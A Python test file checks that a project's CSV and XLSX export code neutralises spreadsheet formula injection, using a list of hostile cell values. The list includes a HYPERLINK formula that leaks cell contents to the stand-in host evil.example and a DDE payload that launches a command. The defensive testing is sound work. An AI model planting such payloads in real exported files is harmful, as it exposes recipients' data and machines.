"""The one CSV writer (shared/tabular.py) and the XLSX writer against spreadsheet injection
(issue 11, finding 8): pure code, no I/O."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest

from shared import tabular
from shared.xlsx import Column, XlsxWriter

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "=1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
]


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("payload", HOSTILE)
def test_a_text_cell_that_starts_a_formula_is_prefixed_with_a_single_quote(payload: str) -> None:
    (header, row) = _read(tabular.to_text(["NOM"], [[payload]]))
    assert header == ["NOM"]
    assert row == ["'" + payload]


def test_plain_text_accents_and_inner_signs_are_written_as_they_are() -> None:
    names = ["Zoé L'Hôte", "Jean-Pierre", "Dupont = Durand", 'a,b "c"']
    (_, row) = _read(tabular.to_text(["a", "b", "c", "d"], [names]))
    assert row == names


def test_amounts_computed_by_our_code_stay_numbers_even_negative() -> None:
    text = tabular.to_text(["VALEUR", "N"], [[tabular.euros(-1234), -3]])
    assert text.splitlines()[1] == "-12.34,-3"
    assert tabular.euros(5) == Decimal("0.05")
    assert tabular.euros(-100_000_00) == Decimal("-100000.00")


def test_a_negative_amount_that_came_as_text_is_neutralised_like_any_text() -> None:
    """Text is text whatever it looks like: only our code makes a number a number."""
    (_, row) = _read(tabular.to_text(["x"], [["-12.34"]]))
    assert row == ["'-12.34"]


def test_dates_and_empty_cells() -> None:
    (_, row) = _read(tabular.to_text(["d", "e"], [[date(2026, 12, 5), None]]))
    assert row == ["2026-12-05", ""]


def test_a_bool_is_not_a_cell() -> None:
    with pytest.raises(TypeError):
        tabular.cell(True)


def test_a_comma_or_newline_inside_a_hostile_cell_cannot_open_a_new_cell_or_line() -> None:
    payload = '=1+2,"=3+4"\r\n=5+6'
    rows = _read(tabular.to_text(["x"], [[payload, "ok"]]))
    assert rows[1] == ["'" + payload, "ok"]


def test_xlsx_writes_hostile_text_as_an_inline_string_never_a_formula() -> None:
    """XLSX cells are typed: a text cell is an inline string (t="inlineStr"), which Excel and
    LibreOffice show and never evaluate; only an <f> element is a formula, and the writer has
    none. So the workbook needs no quote prefix (it would show in the cell)."""
    w = XlsxWriter()
    w.sheet("Détails", (Column("NOM", "text", 20),))
    for payload in HOSTILE[:5]:
        w.rows([(payload,)])
    data = w.take() + w.close()
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = next(n for n in z.namelist() if n.startswith("xl/worksheets/"))
        xml = z.read(sheet).decode()
    assert "<f>" not in xml and "<f " not in xml
    assert xml.count('t="inlineStr"') >= 5
    assert "=1+2" in xml
